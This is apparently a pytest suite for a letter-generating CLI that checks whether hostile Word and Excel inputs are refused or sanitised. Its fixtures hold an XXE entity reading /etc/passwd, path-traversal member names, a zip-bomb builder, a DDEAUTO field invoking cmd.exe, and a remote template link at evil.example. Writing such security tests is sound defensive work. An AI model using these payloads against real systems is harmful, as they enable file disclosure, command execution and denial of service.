"""Office files from other people: hostile Word templates, letterheads and workbooks.

Each file is built here with zipfile from a clean document, then broken the way an attacker or
bad luck would: a DTD with entities, a zip bomb, a bad checksum, a member named ``../..``, a
macro project, links that fetch from outside, shared-string indices that point nowhere, cells
and sheets past Excel's limits. Every run is the CLI's: exit status, the whole message, no
traceback, nothing written (or, where lettergen mends the file, letters that open cleanly).
Bombs run in a subprocess with a 1 GB address-space limit.
"""

from __future__ import annotations

import io
import os
import resource
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner, Result
from docx.oxml.ns import qn

from lettergen.cli import cli
from lettergen.writers.zipwriter import Archive, Member
from tests.conftest import ROOT, snapshot, write

PEOPLE = """\
    - id: ada
      name: Ada Lovelace
    - id: bob
      name: Bob Marley
    """
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DTD = b'<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
SAVE_AGAIN = "save the file again in Word or Excel, or ask whoever sent it for a clean copy"
GB = 1 << 30


# -- building files -------------------------------------------------------------------------------


def clean_template() -> bytes:
    """Return a small Word template (python-docx's default document, one tagged paragraph)."""
    document = docx.Document()
    document.add_paragraph("Dear {{ recipient.name }},")
    document.add_paragraph("We write to you about the treaty.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rezip(path: Path, members: dict[str, bytes | Member]) -> Path:
    """Write a zip of ``members`` (content, or a Member given as it is stored) to ``path``."""
    stored = [
        m if isinstance(m, Member) else Member.deflate(name, m) for name, m in members.items()
    ]
    path.write_bytes(Archive(stored).to_bytes())
    return path


def changed(data: bytes, path: Path, parts: dict[str, bytes | Member]) -> Path:
    """Write the zip ``data`` to ``path`` with ``parts`` (name -> content) replaced or added."""
    return rezip(path, {**members_of(data), **parts})


def bomb(name: str, size: int, *, declared: int | None = None) -> Member:
    """Return a member inflating to ``size`` zero bytes (declaring ``declared`` if given).

    After a full flush, deflate starts afresh: one megabyte of zeros deflates to the same
    block every time, so the block is made once and repeated.
    """
    chunk = b"\0" * (1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH) == block
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    data = block * (size >> 20) + compressor.flush()
    return Member(name, zipfile.ZIP_DEFLATED, crc, declared or size, data)


def setup(tmp_path: Path) -> tuple[Path, Path]:
    people = write(tmp_path / "people.yaml", PEOPLE)
    sender = write(tmp_path / "me.yaml", "name: Ana Gomes\n")
    return people, sender


def render(tmp_path: Path, template: Path, *extra: str | Path) -> Result:
    people, sender = setup(tmp_path)
    args = ["render", template, people, "--sender", sender, "-o", tmp_path / "out", *extra]
    return CliRunner().invoke(cli, [str(a) for a in args])


def refused(result: Result, message: str, tmp_path: Path) -> None:
    """Assert a run failed with exactly ``message``, no traceback, and wrote nothing."""
    assert result.exit_code == 1, result.output
    assert result.output == f"{message}\n", result.output
    assert "Traceback" not in result.output
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
    assert snapshot(tmp_path / "out") == {}


def limited(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """Run ``lettergen ARGS`` in a process that may use 1 GB of address space at most."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (GB, GB))

    return subprocess.run(
        [sys.executable, "-m", "lettergen", *map(str, args)],
        preexec_fn=limit,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
    )


# -- DTDs and entities ----------------------------------------------------------------------------


def with_dtd(xml: bytes) -> bytes:
    head, _, rest = xml.partition(b"?>")
    return head + b"?>\n" + DTD + rest.replace(b"treaty.", b"treaty &e;.")


@pytest.mark.parametrize("formats", [["-f", "docx"], ["-f", "txt"]])
def test_a_dtd_in_a_word_template_is_refused_for_every_format(tmp_path, formats):
    data = clean_template()
    xml = members_of(data)["word/document.xml"]
    template = changed(data, tmp_path / "letter.docx", {"word/document.xml": with_dtd(xml)})
    result = render(tmp_path, template, *formats)
    refused(
        result,
        f"{template}: its part word/document.xml declares a DTD (<!DOCTYPE ...>), which Word "
        f"and Excel never write (its entities could pull in other files); lettergen refuses "
        f"it: {SAVE_AGAIN}",
        tmp_path,
    )


def test_a_dtd_in_a_part_copied_as_it_is_is_refused_too(tmp_path):
    data = clean_template()
    styles = members_of(data)["word/styles.xml"]
    template = changed(data, tmp_path / "letter.docx", {"word/styles.xml": with_dtd(styles)})
    people, sender = setup(tmp_path)
    result = CliRunner().invoke(cli, ["check", str(template), str(people), "--sender", str(sender)])
    assert result.exit_code == 1
    assert result.output == (
        f"error: template (1)\n  {template}: error: its part word/styles.xml declares a DTD "
        "(<!DOCTYPE ...>), which Word and Excel never write (its entities could pull in other "
        f"files); lettergen refuses it: {SAVE_AGAIN}\n"
        "0 of 0 letter(s) rendered; 1 error(s), 0 warning(s), 0 note(s)\n"
    )


def test_a_dtd_in_a_letterhead_is_refused(tmp_path):
    data = (ROOT / "templates" / "letterhead.docx").read_bytes()
    document = with_dtd(members_of(data)["word/document.xml"])
    head = changed(data, tmp_path / "head.docx", {"word/document.xml": document})
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    result = render(tmp_path, template, "-f", "docx", "--letterhead", head)
    refused(
        result,
        f"{head}: letterhead: its part word/document.xml declares a DTD (<!DOCTYPE ...>), which "
        f"Word and Excel never write (its entities could pull in other files); lettergen "
        f"refuses it: {SAVE_AGAIN}",
        tmp_path,
    )


# -- members: names and checksums -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("../../../../tmp/evil.txt", "leaves the package (an empty, '.' or '..' step)"),
        ("word/../../evil.txt", "leaves the package (an empty, '.' or '..' step)"),
        ("/tmp/evil.txt", "is an absolute path"),
        ("C:/evil.txt", "is an absolute path"),
        ("word\\..\\..\\evil.txt", "holds a backslash"),
    ],
)
def test_member_names_leaving_the_package_are_refused(tmp_path, name, problem):
    members: dict[str, bytes | Member] = dict(members_of(clean_template()))
    members[name] = b"gotcha"
    template = rezip(tmp_path / "letter.docx", members)
    refused(
        render(tmp_path, template, "-f", "docx"),
        f"{template}: member name {name!r} {problem}: such a file, unpacked, writes outside its "
        "folder; lettergen refuses it",
        tmp_path,
    )


def test_a_member_with_a_bad_checksum_is_never_copied_into_letters(tmp_path):
    members: dict[str, bytes | Member] = dict(members_of(clean_template()))
    good = Member.deflate("word/settings.xml", members["word/settings.xml"])  # type: ignore[arg-type]
    members["word/settings.xml"] = Member(
        good.name, good.method, good.crc ^ 1, good.size, good.data
    )
    template = rezip(tmp_path / "letter.docx", members)
    refused(
        render(tmp_path, template, "-f", "docx"),
        f"{template}: its part word/settings.xml is damaged (its checksum does not match its "
        "bytes); lettergen copies no damaged part into letters: save the file again, or ask "
        "whoever sent it for a clean copy",
        tmp_path,
    )


# -- macros ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("part", "message"),
    [
        (
            "word/vbaProject.bin",
            "holds a macro project (VBA); lettergen does not pass macros on to recipients: "
            "open it in Word and save it as 'Word Document (.docx)', which leaves the macros "
            "out, and use that file",
        ),
        (
            "word/activeX/activeX1.bin",
            "is an ActiveX control (code run inside the document); lettergen does not pass "
            "code on to recipients: delete the control in Word (Developer > Design Mode) and "
            "save the document again",
        ),
    ],
)
def test_a_macro_project_or_activex_control_is_refused(tmp_path, part, message):
    template = changed(clean_template(), tmp_path / "letter.docx", {part: b"code"})
    refused(
        render(tmp_path, template, "-f", "docx"), f"{template}: its part {part} {message}", tmp_path
    )


def test_a_docm_renamed_docx_is_refused(tmp_path):
    data = clean_template()
    types = members_of(data)["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    template = changed(data, tmp_path / "letter.docx", {"[Content_Types].xml": types})
    refused(
        render(tmp_path, template, "-f", "txt"),
        f"{template}: its part [Content_Types].xml says /word/document.xml is "
        "application/vnd.ms-word.document.macroEnabled.main+xml, a macro-enabled document "
        "(a .docm); lettergen does not pass macros on to recipients: open it in Word and "
        "save it as 'Word Document (.docx)', which leaves the macros out, "
        "and use that file",
        tmp_path,
    )


# -- external relationships -----------------------------------------------------------------------


def linked_template(path: Path) -> Path:
    """A template linking an image on a server, an attached template, and two hyperlinks."""
    members = members_of(clean_template())
    rels = members["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdPixel" Type="' + R.encode() + b'/image" '
        b'Target="http://tracker.example/pixel.png" TargetMode="External"/>'
        b'<Relationship Id="rIdWeb" Type="' + R.encode() + b'/hyperlink" '
        b'Target="https://example.org/treaty" TargetMode="External"/>'
        b'<Relationship Id="rIdFile" Type="' + R.encode() + b'/hyperlink" '
        b'Target="file://///server/share/notes.docx" TargetMode="External"/>'
        b"</Relationships>",
    )
    document = members["word/document.xml"].replace(
        b"We write to you about the treaty.</w:t></w:r>",
        b'We write to you about </w:t></w:r><w:hyperlink r:id="rIdWeb"><w:r><w:t>the treaty'
        b'</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdFile"><w:r><w:t xml:space="preserve">'
        b" (notes)</w:t></w:r></w:hyperlink><w:r><w:t>.</w:t></w:r>",
    )
    settings = members["word/settings.xml"].replace(
        b"<w:zoom", b'<w:attachedTemplate r:id="rIdTpl"/><w:zoom', 1
    )
    assert b"attachedTemplate" in settings
    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdTpl" Type="' + R.encode() + b'/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    members.update(
        {
            "word/_rels/document.xml.rels": rels,
            "word/document.xml": document,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": settings_rels,
        }
    )
    return rezip(path, dict(members))


def test_external_links_are_removed_with_a_warning_and_letters_open(tmp_path):
    template = linked_template(tmp_path / "letter.docx")
    result = render(tmp_path, template, "-f", "docx", "-f", "txt")
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if "warning" in line]
    assert warnings == [
        f"{template}: warning: word/_rels/document.xml.rels: removed the external image link "
        "rIdPixel to http://tracker.example/pixel.png: a letter must fetch nothing when opened",
        f"{template}: warning: word/_rels/document.xml.rels: removed the external hyperlink "
        "link rIdFile to file://///server/share/notes.docx: a letter must fetch nothing when "
        "opened",
        f"{template}: warning: word/_rels/settings.xml.rels: removed the external "
        "attachedTemplate link rIdTpl to http://evil.example/t.dotm: a letter must fetch "
        "nothing when opened",
    ]
    letter = tmp_path / "out" / "ada.docx"
    with zipfile.ZipFile(letter) as archive:
        assert archive.testzip() is None
        everything = b"".join(archive.read(name) for name in archive.namelist())
        settings = archive.read("word/settings.xml")
    for gone in (b"tracker.example", b"evil.example", b"server/share", b"rIdFile", b"rIdTpl"):
        assert gone not in everything
    assert b"attachedTemplate" not in settings
    opened = docx.Document(str(letter))
    assert [p.text for p in opened.paragraphs] == [
        "Dear Ada Lovelace,",
        "We write to you about the treaty (notes).",
    ]
    # The web link stays: it is the letter's text, followed only when clicked.
    links = opened.element.body.findall(f".//{qn('w:hyperlink')}")
    assert [link.get(qn("r:id")) for link in links] == ["rIdWeb", None]
    assert opened.part.rels["rIdWeb"].target_ref == "https://example.org/treaty"
    assert (
        (tmp_path / "out" / "ada.txt")
        .read_text(encoding="utf-8")
        .startswith("Dear Ada Lovelace,\n\nWe write to you about the treaty (notes).")
    )


def test_external_links_of_a_letterhead_are_removed_with_a_warning(tmp_path):
    data = (ROOT / "templates" / "letterhead.docx").read_bytes()
    rels = members_of(data)["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdLogo" Type="' + R.encode() + b'/image" '
        b'Target="file:///C:/logos/ngo.png" TargetMode="External"/></Relationships>',
    )
    head = changed(data, tmp_path / "head.docx", {"word/_rels/document.xml.rels": rels})
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    result = render(tmp_path, template, "-f", "docx", "--letterhead", head)
    assert result.exit_code == 0, result.output
    assert (
        f"{head}: letterhead: warning: word/_rels/document.xml.rels: removed the external "
        "image link rIdLogo to file:///C:/logos/ngo.png: a letter must fetch nothing when "
        "opened\n"
    ) in result.output
    letter = tmp_path / "out" / "ada.docx"
    with zipfile.ZipFile(letter) as archive:
        assert archive.testzip() is None
        assert b"logos" not in archive.read("word/_rels/document.xml.rels")
    assert docx.Document(str(letter)).paragraphs[0].text == "Dear Ada Lovelace,"


@pytest.mark.parametrize(
    ("field", "xml"),
    [
        (
            "INCLUDEPICTURE",
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            ' INCLUDEPICTURE "http://tracker.</w:instrText></w:r><w:r><w:instrText>example/p.gif"'
            ' \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ),
        ("INCLUDETEXT", '<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\srv\\x.docx&quot; "/>'),
        ("DDEAUTO", '<w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe &quot;/k&quot;"/>'),
    ],
)
def test_a_field_that_fetches_from_outside_is_refused(tmp_path, field, xml):
    data = clean_template()
    document = members_of(data)["word/document.xml"].replace(
        b"<w:r><w:t>We write", xml.encode() + b"<w:r><w:t>We write", 1
    )
    template = changed(data, tmp_path / "letter.docx", {"word/document.xml": document})
    target = {
        "INCLUDEPICTURE": "http://tracker.example/p.gif",
        "INCLUDETEXT": "\\\\srv\\x.docx",
        "DDEAUTO": "c:\\windows\\cmd.exe",
    }[field]
    refused(
        render(tmp_path, template, "-f", "docx"),
        f"{template}: its part word/document.xml holds a {field} field, which loads {target} "
        "from outside when Word updates it; lettergen sends no letter that fetches anything: "
        "remove the field in Word (for a picture, paste the picture itself) and save the "
        "document again",
        tmp_path,
    )


# -- zip bombs ------------------------------------------------------------------------------------


def bomb_refused(run: subprocess.CompletedProcess[str], message: str) -> None:
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stderr and "MemoryError" not in run.stderr
    assert run.stderr == f"{message}\n"


def render_limited(tmp_path: Path, member: Member) -> tuple[Path, subprocess.CompletedProcess[str]]:
    """Render from a Word template holding ``member``, in a process limited to 1 GB."""
    members: dict[str, bytes | Member] = dict(members_of(clean_template()))
    members[member.name] = member
    template = rezip(tmp_path / "letter.docx", members)
    people, sender = setup(tmp_path)
    run = limited("render", template, people, "--sender", sender, "-o", tmp_path / "out")
    return template, run


def test_a_zip_bomb_as_a_templates_document_stops_before_filling_memory(tmp_path):
    template, run = render_limited(tmp_path, bomb("word/document.xml", 600 << 20))
    bomb_refused(
        run,
        f"{template}: its member word/document.xml inflates to more than 512 MB; lettergen "
        "refuses it",
    )
    assert not (tmp_path / "out").exists()


def test_a_bomb_that_lies_about_its_size_is_read_no_further_than_it_says(tmp_path):
    template, run = render_limited(tmp_path, bomb("word/styles.xml", GB, declared=1000))
    bomb_refused(
        run,
        f"{template}: its part word/styles.xml is damaged (its checksum does not match its "
        "bytes); lettergen copies no damaged part into letters: save the file again, or ask "
        "whoever sent it for a clean copy",
    )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml"])
def test_a_zip_bomb_in_a_letterhead_is_refused(tmp_path, part):
    members: dict[str, bytes | Member] = dict(
        members_of((ROOT / "templates" / "letterhead.docx").read_bytes())
    )
    members[part] = bomb(part, 256 << 20)
    head = rezip(tmp_path / "head.docx", members)
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    people, sender = setup(tmp_path)
    run = limited(
        "render", template, people, "--sender", sender, "-o", tmp_path / "out",
        "-f", "docx", "--letterhead", head,
    )  # fmt: skip
    compressed = len(members[part].data)  # type: ignore[union-attr]
    bomb_refused(
        run,
        f"{head}: letterhead: its member {part} would inflate {(256 << 20) // compressed:,} "
        f"times (from {compressed:,} to {256 << 20:,} bytes), as a zip bomb does; lettergen "
        "refuses members that inflate over 200 times",
    )
    assert not (tmp_path / "out").exists()


# -- workbooks ------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(
    path: Path,
    rows: str | Member,
    strings: list[str] | Member | None = None,
    styles: Member | None = None,
) -> Path:
    """Write a small .xlsx by hand: one sheet 'People' of ``rows`` (its sheetData's XML)."""
    rels = [("rId1", "worksheet", "worksheets/sheet1.xml")]
    members: dict[str, bytes | Member] = {
        "_rels/.rels": (
            f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            f'Type="{R}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ).encode(),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{R}"><sheets>'
            '<sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/worksheets/sheet1.xml": rows
        if isinstance(rows, Member)
        else f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode(),
    }
    if strings is not None:
        rels.append(("rId2", "sharedStrings", "sharedStrings.xml"))
        members["xl/sharedStrings.xml"] = (
            strings
            if isinstance(strings, Member)
            else (
                f'<sst xmlns="{MAIN}">'
                + "".join(f"<si><t>{s}</t></si>" for s in strings)
                + "</sst>"
            ).encode()
        )
    if styles is not None:
        rels.append(("rId3", "styles", "styles.xml"))
        members["xl/styles.xml"] = styles
    members["xl/_rels/workbook.xml.rels"] = (
        f'<Relationships xmlns="{PKG}">'
        + "".join(f'<Relationship Id="{i}" Type="{R}/{t}" Target="{x}"/>' for i, t, x in rels)
        + "</Relationships>"
    ).encode()
    return rezip(path, members)


HEADER = f'<row r="1">{cell("A1", "id")}{cell("B1", "name")}</row>'


def send_to(tmp_path: Path, people: Path, *extra: str) -> Result:
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    sender = write(tmp_path / "me.yaml", "name: Ana Gomes\n")
    args = ["render", template, people, "--sender", sender, "-o", tmp_path / "out", *extra]
    return CliRunner().invoke(cli, [str(a) for a in args])


@pytest.mark.parametrize("count", [2, 20_001])  # in memory; in a temporary file
@pytest.mark.parametrize("index", ["-1", "20001", "99999999999999999999"])
def test_a_shared_string_index_out_of_range_names_sheet_row_and_column(tmp_path, index, count):
    rows = HEADER + f'<row r="2">{cell("A2", "ada")}<c r="B2" t="s"><v>{index}</v></c></row>'
    people = workbook(tmp_path / "people.xlsx", rows, [f"s{n}" for n in range(count)])
    refused(
        send_to(tmp_path, people),
        f"{people}:2: sheet 'People', row 2, column B: cell B2 names shared string {index}, "
        f"which does not exist (the workbook's shared strings are 0 to {count - 1}); the file "
        "is damaged or was not written by Excel: open it in Excel and save it again",
        tmp_path,
    )


def test_shared_strings_in_range_are_read_from_memory_and_from_the_file(tmp_path):
    rows = HEADER + f'<row r="2">{cell("A2", "ada")}<c r="B2" t="s"><v>20000</v></c></row>'
    people = workbook(tmp_path / "people.xlsx", rows, [f"s{n}" for n in range(20_001)])
    assert send_to(tmp_path, people).exit_code == 0
    assert (tmp_path / "out" / "ada.txt").read_text(encoding="utf-8") == "Dear s20000,\n"


def test_a_dtd_in_a_worksheet_is_refused(tmp_path):
    sheet = f'<!DOCTYPE x [<!ENTITY e "boo">]><worksheet xmlns="{MAIN}"><sheetData>{HEADER}'
    sheet += f'<row r="2">{cell("A2", "ada")}{cell("B2", "&e;")}</row></sheetData></worksheet>'
    people = workbook(
        tmp_path / "people.xlsx", Member.deflate("xl/worksheets/sheet1.xml", sheet.encode())
    )
    refused(
        send_to(tmp_path, people),
        f"{people}: its part xl/worksheets/sheet1.xml declares a DTD (<!DOCTYPE ...>), which "
        f"Word and Excel never write (its entities could pull in other files); lettergen "
        f"refuses it: {SAVE_AGAIN}",
        tmp_path,
    )


def test_twenty_thousand_columns_are_refused_at_excels_last(tmp_path):
    # Cells without references, as some programs write them: counted from A.
    header = "".join(f'<c t="inlineStr"><is><t>f{n}</t></is></c>' for n in range(20_000))
    people = workbook(tmp_path / "people.xlsx", f'<row r="1">{header}</row>')
    refused(
        send_to(tmp_path, people),
        f"{people}:1: sheet 'People', row 1, column XFE: cell XFE1 lies past column XFD, the "
        "last of 16,384 Excel has; keep recipients' fields within the first columns",
        tmp_path,
    )


def test_a_50_mb_cell_is_refused_within_a_1_gb_limit(tmp_path):
    huge = os.urandom(25 << 20).hex()
    rows = HEADER + f'<row r="2">{cell("A2", "ada")}{cell("B2", huge)}</row>'
    people = workbook(tmp_path / "people.xlsx", rows)
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    sender = write(tmp_path / "me.yaml", "name: Ana Gomes\n")
    run = limited("render", template, people, "--sender", sender, "-o", tmp_path / "out")
    bomb_refused(
        run,
        f"{people}:2: sheet 'People', row 2, column B: cell B2 holds more than 32,767 "
        "characters, Excel's limit for a cell",
    )
    assert not (tmp_path / "out").exists()


def test_a_50_mb_shared_string_is_refused(tmp_path):
    rows = HEADER + f'<row r="2">{cell("A2", "ada")}<c r="B2" t="s"><v>0</v></c></row>'
    people = workbook(tmp_path / "people.xlsx", rows, [os.urandom(25 << 20).hex()])
    refused(
        send_to(tmp_path, people),
        f"{people}: cannot read this workbook: xl/sharedStrings.xml: shared string 0 holds "
        "more than 32,767 characters, Excel's limit for a cell",
        tmp_path,
    )


def test_a_million_empty_rows_are_read_within_a_1_gb_limit(tmp_path):
    empty = "".join(f'<row r="{n}"/>' for n in range(2, 1_000_002))
    last = f'<row r="1000002">{cell("A1000002", "ada")}{cell("B1000002", "Ada")}</row>'
    people = workbook(tmp_path / "people.xlsx", HEADER + empty + last)
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    sender = write(tmp_path / "me.yaml", "name: Ana Gomes\n")
    run = limited("render", template, people, "--sender", sender, "-o", tmp_path / "out")
    assert run.returncode == 0, run.stderr
    assert (tmp_path / "out" / "ada.txt").read_text(encoding="utf-8") == "Dear Ada,\n"


@pytest.mark.parametrize(
    "part", ["xl/sharedStrings.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml"]
)
def test_a_zip_bomb_in_a_workbook_is_refused_within_a_1_gb_limit(tmp_path, part):
    member = bomb(part, 300 << 20)
    rows: str | Member = member if part.endswith("sheet1.xml") else HEADER
    strings = member if part.endswith("sharedStrings.xml") else []
    styles = member if part.endswith("styles.xml") else None
    people = workbook(tmp_path / "people.xlsx", rows, strings, styles)
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    sender = write(tmp_path / "me.yaml", "name: Ana Gomes\n")
    run = limited("render", template, people, "--sender", sender, "-o", tmp_path / "out")
    compressed = len(member.data)
    bomb_refused(
        run,
        f"{people}: its member {part} would inflate {(300 << 20) // compressed:,} times (from "
        f"{compressed:,} to {300 << 20:,} bytes), as a zip bomb does; lettergen refuses "
        "members that inflate over 200 times",
    )


def test_a_cell_referenced_past_column_xfd_is_refused(tmp_path):
    rows = HEADER + f'<row r="2">{cell("A2", "ada")}{cell("XFE2", "far away")}</row>'
    people = workbook(tmp_path / "people.xlsx", rows)
    refused(
        send_to(tmp_path, people),
        f"{people}:2: sheet 'People', row 2, column XFE: cell XFE2 lies past column XFD, the "
        "last of 16,384 Excel has; keep recipients' fields within the first columns",
        tmp_path,
    )


def test_a_macro_project_in_a_letterhead_is_refused(tmp_path):
    data = (ROOT / "templates" / "letterhead.docx").read_bytes()
    head = changed(data, tmp_path / "head.docx", {"word/vbaProject.bin": b"VBA"})
    template = write(tmp_path / "letter.txt.j2", "Dear {{ recipient.name }},\n")
    refused(
        render(tmp_path, template, "-f", "docx", "--letterhead", head),
        f"{head}: letterhead: its part word/vbaProject.bin holds a macro project (VBA); "
        "lettergen does not pass macros on to recipients: open it in Word and save it as "
        "'Word Document (.docx)', which leaves the macros out, and use that file",
        tmp_path,
    )


def test_members_that_add_up_past_the_cap_are_refused(tmp_path):
    members: dict[str, bytes | Member] = dict(members_of(clean_template()))
    for number in range(3):
        # Each just under the size cap, inflating less than 200 times: together 1.5 GB.
        name = f"word/media/image{number}.png"
        members[name] = Member(name, zipfile.ZIP_DEFLATED, 0, 500 << 20, b"\0" * (3 << 20))
    template = rezip(tmp_path / "letter.docx", members)
    refused(
        render(tmp_path, template, "-f", "docx"),
        f"{template}: its members inflate to more than 1,024 MB in all; lettergen refuses it",
        tmp_path,
    )
